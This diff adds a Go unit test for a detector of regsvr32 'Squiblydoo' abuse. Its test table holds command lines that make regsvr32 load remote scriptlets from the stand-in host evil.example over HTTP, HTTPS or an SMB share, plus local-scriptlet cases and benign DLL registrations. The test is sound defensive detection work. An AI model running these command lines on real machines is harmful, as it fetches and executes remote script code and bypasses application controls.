@@ -0,0 +1,63 @@
+package main
+
+import (
+	"slices"
+	"testing"
+)
+
+func TestCheckRegsvr32(t *testing.T) {
+	tests := []struct {
+		name      string
+		cmdLine   string
+		flags     []string
+		scriptlet string
+		host      string
+		indicator string
+		severity  Severity
+	}{
+		// Squiblydoo as published, and its reorderings and spellings
+		{"squiblydoo", `regsvr32.exe /s /n /u /i:http://evil.example/file.sct scrobj.dll`,
+			[]string{"s", "n", "u", "i"}, "http://evil.example/file.sct", "evil.example", "remote_scriptlet", SeverityCritical},
+		{"dash options", `regsvr32 -s -n -u -i:https://evil.example/a.sct scrobj.dll`,
+			[]string{"s", "n", "u", "i"}, "https://evil.example/a.sct", "evil.example", "remote_scriptlet", SeverityCritical},
+		{"reordered, quoted, full scrobj path", `regsvr32.exe /u /n /s /I:"http://evil.example/a.sct" C:\Windows\System32\scrobj.dll`,
+			[]string{"u", "n", "s", "i"}, "http://evil.example/a.sct", "evil.example", "remote_scriptlet", SeverityCritical},
+		{"URL in the DLL position", `regsvr32 /s /i http://evil[.]example/a.sct`,
+			[]string{"s", "i"}, "http://evil[.]example/a.sct", "evil.example", "remote_scriptlet", SeverityCritical},
+		{"scriptlet on a share", `regsvr32.exe /s \\evil.example\share\payload.sct`,
+			[]string{"s"}, `\\evil.example\share\payload.sct`, "evil.example", "remote_scriptlet", SeverityCritical},
+		// Local scriptlets
+		{"scriptlet in temp", `regsvr32 /s /u /i:C:\Users\alice\AppData\Local\Temp\a.sct scrobj.dll`,
+			[]string{"s", "u", "i"}, `C:\Users\alice\AppData\Local\Temp\a.sct`, "", "scriptlet_path", SeverityHigh},
+		{"payload that isn't a file", `regsvr32 /s /u /i:run scrobj.dll`,
+			[]string{"s", "u", "i"}, "", "", "scriptlet_path", SeverityHigh},
+		// Registrations that aren't scriptlets
+		{"vendor DLL", `regsvr32.exe /s "C:\Program Files\Vendor\plugin.dll"`, nil, "", "", "", 0},
+		{"unregistering a system DLL", `regsvr32.exe /u /s C:\Windows\System32\msxml3.dll`, nil, "", "", "", 0},
+		{"DllInstall of a system DLL", `regsvr32 /s /n /i:U C:\Windows\System32\shell32.dll`, nil, "", "", "", 0},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			event := evaluate(`C:\Windows\System32\regsvr32.exe`, tt.cmdLine)
+			if tt.indicator == "" {
+				if event.Regsvr32 != nil || hasIndicator(event, "remote_scriptlet", "") || hasIndicator(event, "scriptlet_path", "") {
+					t.Errorf("scriptlet load detected: %+v", event.Regsvr32)
+				}
+				return
+			}
+			invocation := event.Regsvr32
+			if invocation == nil {
+				t.Fatalf("no scriptlet load detected (%s)", event.Reason)
+			}
+			if !slices.Equal(invocation.Flags, tt.flags) || invocation.Scriptlet != tt.scriptlet || invocation.RemoteHost != tt.host {
+				t.Errorf("invocation = %+v, want flags %q, scriptlet %q, host %q", invocation, tt.flags, tt.scriptlet, tt.host)
+			}
+			if !hasIndicator(event, tt.indicator, "") || event.Severity < tt.severity {
+				t.Errorf("indicators %+v, severity %v; want %s at %v or above", event.Indicators, event.Severity, tt.indicator, tt.severity)
+			}
+			if tt.host != "" && !hasIOC(&event, tt.host) {
+				t.Errorf("IOCs %+v, want %s", event.IOCs, tt.host)
+			}
+		})
+	}
+}